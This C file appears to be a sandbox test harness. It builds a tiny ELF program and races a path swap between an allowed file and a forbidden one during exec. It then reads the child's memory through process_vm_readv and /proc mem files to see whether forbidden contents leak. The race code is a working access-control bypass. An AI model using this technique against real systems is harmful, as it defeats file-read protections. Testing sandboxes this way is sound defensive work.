/*
 * Reading a program that may not be read out of a process that starts it. $IN/good may be read, $OUT/bad may not; a path
 * is changed from one to the other while a child runs exec, and its memory is looked at all the time.
 *
 * "window make FILE TEXT" writes a program that does nothing, with the text at an address that is known.
 */
#include "attack.h"

#include <elf.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/uio.h>

#define BASE	  0x400000UL
#define TEXT_SIZE 16
#define SECRET	  "forbidden"

struct image {
	Elf64_Ehdr eh;
	Elf64_Phdr ph;
	char text[TEXT_SIZE];
	uint32_t code; /* jumps to itself */
};

static int make(const char *file, const char *text)
{
	struct image p = {
		.eh = {.e_ident = {ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS64, ELFDATA2LSB, EV_CURRENT},
		       .e_type = ET_EXEC,
		       .e_version = EV_CURRENT,
		       .e_entry = BASE + offsetof(struct image, code),
		       .e_phoff = offsetof(struct image, ph),
		       .e_ehsize = sizeof(Elf64_Ehdr),
		       .e_phentsize = sizeof(Elf64_Phdr),
		       .e_phnum = 1},
		.ph = {.p_type = PT_LOAD,
		       .p_flags = PF_R | PF_X,
		       .p_vaddr = BASE,
		       .p_filesz = sizeof(p),
		       .p_memsz = sizeof(p),
		       .p_align = 65536},
	};
	int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0755);

#ifdef __aarch64__
	p.eh.e_machine = EM_AARCH64, p.code = 0x14000000;
#else
	p.eh.e_machine = EM_X86_64, p.code = 0xfeeb;
#endif
	snprintf(p.text, sizeof(p.text), "%s", text);
	return fd >= 0 && write(fd, &p, sizeof(p)) == sizeof(p) ? 0 : 1;
}

static bool by_call(pid_t pid, char *text)
{
	struct iovec to = {text, TEXT_SIZE},
		     from = {(void *)(BASE + offsetof(struct image, text)), TEXT_SIZE};

	return process_vm_readv(pid, &to, 1, &from, 1, 0) == TEXT_SIZE;
}

static bool by_file(const char *format, pid_t pid, char *text)
{
	char name[64];
	ssize_t n;
	int fd;

	snprintf(name, sizeof(name), format, pid, pid);
	fd = open(name, O_RDONLY);
	n = pread(fd, text, TEXT_SIZE, BASE + offsetof(struct image, text));
	close(fd);
	return n == TEXT_SIZE;
}

static bool by_mem(pid_t pid, char *text)
{
	return by_file("/proc/%d/mem", pid, text);
}

static bool by_task(pid_t pid, char *text)
{
	return by_file("/proc/%d/task/%d/mem", pid, text);
}

static char *path; /* changed meanwhile */

static pid_t start_flipping(const char *good, const char *bad)
{
	pid_t pid = fork();

	if (pid != 0)
		return pid;
	alarm(60);
	for (;;) {
		strcpy(path, bad);
		strcpy(path, good);
	}
}

/* Whether what the child started showed the secret before it ended. */
static bool look(bool (*read_text)(pid_t, char *), int *reads)
{
	char *const args[] = {"prog", NULL};
	char text[TEXT_SIZE + 1] = "";
	pid_t pid = fork();
	int status;

	if (pid == 0) {
		execve(path, args, NULL);
		_exit(3);
	}
	while (waitpid(pid, &status, WNOHANG) == 0) {
		if (!read_text(pid, text) || (strcmp(text, SECRET) != 0 && strcmp(text, "allowed") != 0))
			continue;
		++*reads;
		kill(pid, SIGKILL);
		waitpid(pid, &status, 0);
		break;
	}
	return strcmp(text, SECRET) == 0;
}

static int window(bool (*read_text)(pid_t, char *))
{
	double end = seconds() + patience();
	char good[PATH_MAX];
	int reads = 0;
	long tries = 0;
	bool won = false;
	pid_t flipper;

	snprintf(good, sizeof(good), "%s/good", getenv("IN"));
	path = mmap(NULL, PATH_MAX, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (path == MAP_FAILED)
		broken("memory");
	strcpy(path, good);
	flipper = start_flipping(good, out("bad"));
	for (; !won && goes_on(end, tries); tries++)
		won = look(read_text, &reads);
	kill(flipper, SIGKILL);
	waitpid(flipper, NULL, 0);
	printf("# read %d\n", reads);
	tell_tries("window", won, tries);
	return won ? WON : LOST;
}

static int try_vm(int argc, char **argv)
{
	char word[8];
	struct iovec v = {word, sizeof(word)};

	if (process_vm_readv(getpid(), &v, 1, &v, 1, 0) < 0) {
		printf("no process_vm_readv here\n");
		return SKIP;
	}
	return window(by_call);
}

static int try_mem(int argc, char **argv)
{
	return window(by_mem);
}

static int try_task(int argc, char **argv)
{
	return window(by_task);
}

static const struct attack attacks[] = {
	{"vm", try_vm},
	{"mem", try_mem},
	{"task_mem", try_task},
};

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "make") == 0)
		return make(argv[2], argv[3]);
	return attack_main(attacks, sizeof(attacks) / sizeof(*attacks), argc, argv);
}
